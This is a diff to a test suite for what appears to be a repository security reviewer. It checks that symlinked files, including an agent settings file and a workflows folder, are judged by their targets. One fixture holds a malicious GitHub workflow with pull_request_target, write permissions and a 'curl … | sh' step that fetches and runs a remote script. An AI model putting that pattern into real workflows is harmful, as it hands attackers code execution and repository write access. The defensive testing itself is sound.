@@ -70,6 +70,16 @@ describe("links inside the repository are reviewed as their targets, at the link
     expect(linked.annotations).toEqual(direct.annotations);
   });
 
+  test("an unchanged link inside an agent folder (`.claude/settings.json -> ../cfg/settings.json`) whose target changes", async () => {
+    const directBase = rebase(seed(h.fake), { ".claude/settings.json": BENIGN_SETTINGS });
+    const direct = await review(directBase, 85, { ".claude/settings.json": EVIL_SETTINGS });
+
+    const linkedBase = rebase(seed(h.fake), { ".claude/settings.json": symlink("../cfg/settings.json"), "cfg/settings.json": BENIGN_SETTINGS });
+    const linked = await review(linkedBase, 84, { "cfg/settings.json": EVIL_SETTINGS });
+    expect(linked.run.conclusion).toBe("failure");
+    expect(linked.annotations).toEqual(direct.annotations);
+  });
+
   test("a folder link above a scope path (`.github/workflows -> ../ci/workflows`) exposes its workflows", async () => {
     const evil = "name: triage\non:\n  pull_request_target:\n    types: [opened]\npermissions:\n  contents: write\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL https://get.example.test/ci.sh | sh\n";
     const direct = await review(seed(h.fake), 88, { ".github/workflows/triage.yml": evil });
